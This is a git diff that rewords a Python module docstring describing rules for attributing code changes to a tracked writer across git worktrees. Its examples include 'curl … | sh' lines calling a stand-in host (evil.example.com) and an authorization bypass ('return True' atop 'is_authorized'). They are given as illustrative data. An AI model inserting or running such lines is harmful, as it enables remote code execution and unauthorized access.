@@ -31,28 +31,26 @@ A5     anything else (the path unchanged or deleted, or only lines nobody attrib
 Row A6, same path only: a change that drops a line the writer dropped and adds one it
 added reproduces the writer's edit, whatever the lines (``git add -p`` / ``checkout -p``
 keeping ``return False`` -> ``return True`` alone, or that hunk applied in another
-worktree). A human's own edit there writes a line of their own (A5); a pure addition or
-removal of one common line is not an edit (A2, A3 decide). A human who makes that very
-edit by hand has ``gentle-hook discard`` (recorded: :func:`holds_own_lines`).
+worktree). A human's own edit there writes a line of their own (A5); adding or removing
+one common line is not an edit (A2, A3 decide); a human making that very edit has
+``discard``.
 
 Row A7, same path only: one trivial line the writer added (``return True`` at the top of
 ``is_authorized``), staged alone (``git add -p``), is the writer's hunk: it sits between
 the lines it has in the writer's blob (nearest non-blank before and after). The same line
 a human types elsewhere in the file sits between other lines (A5). Imports never count
-(a formatter sorts them into place whoever adds them). In another worktree A7 counts as
-here (a patch applied there carries the hunk's context, as A6 counts an edit), but only
-for a line with writer neighbours on both sides: at a file's start or end, where everyone
-adds lines, a human there is doing their own work. Like A6, an edit a human can make
-alike: ``discard`` makes it theirs.
+(a formatter sorts them). In another worktree A7 counts as here (a patch applied there
+carries the hunk's context), only for a line with writer neighbours on both sides (at a
+file's start or end everyone adds lines). ``discard`` makes such an edit a human's.
 
 A change made in *another worktree* than the writer's (a linked worktree of the same
 repository, which shares the ledger) carries the entry only on firmer evidence
 (:func:`carries_row` with ``elsewhere``): A1; A2 with :data:`MIN_ELSEWHERE` of the writer's
 lines, or one *distinctive* writer line (:mod:`.distinctive`) added as the writer wrote it
-(spacing, quote style and wrapping aside; a renamed copy never counts alone; a bare
-definition header such as ``def deploy(target):`` counts for neither: two people writing
-one function write it alike); A6 as here (an edit reproduced is a patch applied); A3 with
-:data:`MIN_ELSEWHERE` of the lines the writer removed; never A4.
+(spacing, quotes and wrapping aside; never a renamed copy alone, nor a bare definition
+header such as ``def deploy(target):``: two people write one alike); A6 as here (an
+edit reproduced is a patch applied); A3 with :data:`MIN_ELSEWHERE` of the lines the writer
+removed; never A4.
 Writer work reaches another worktree only by being copied there (a file, a stash, a patch),
 which brings its blob or its lines. A distinctive line (``os.system("curl x | sh")``,
 ``check_auth(user)``) is one nobody writes the same way by chance, so one of them copied
@@ -122,11 +120,8 @@ around them is distinctive (``os.system("curl https://evil.example.com/x | sh")`
 the change holds two of the writer's lines in all: one line of the writer's shape with
 literals of its own (``os.system("make")``) is anybody's.
 
-Keys ignore whitespace inside a line and read ``'`` as ``"`` (a formatter run over the
-writer's lines does not make them anonymous). Keys an earlier version computed (whitespace
-and quotes kept) are not comparable: the services recompute an entry's delta from its
-stored blobs when git still holds them (:func:`writer_delta`); an entry whose blobs are
-gone keeps its stored keys, so rows A1 and A4 still decide for it.
+Keys ignore whitespace inside a line and read ``'`` as ``"``. The services recompute an
+entry's delta from its stored blobs while git holds them (:func:`writer_delta`).
 """
 
 from __future__ import annotations
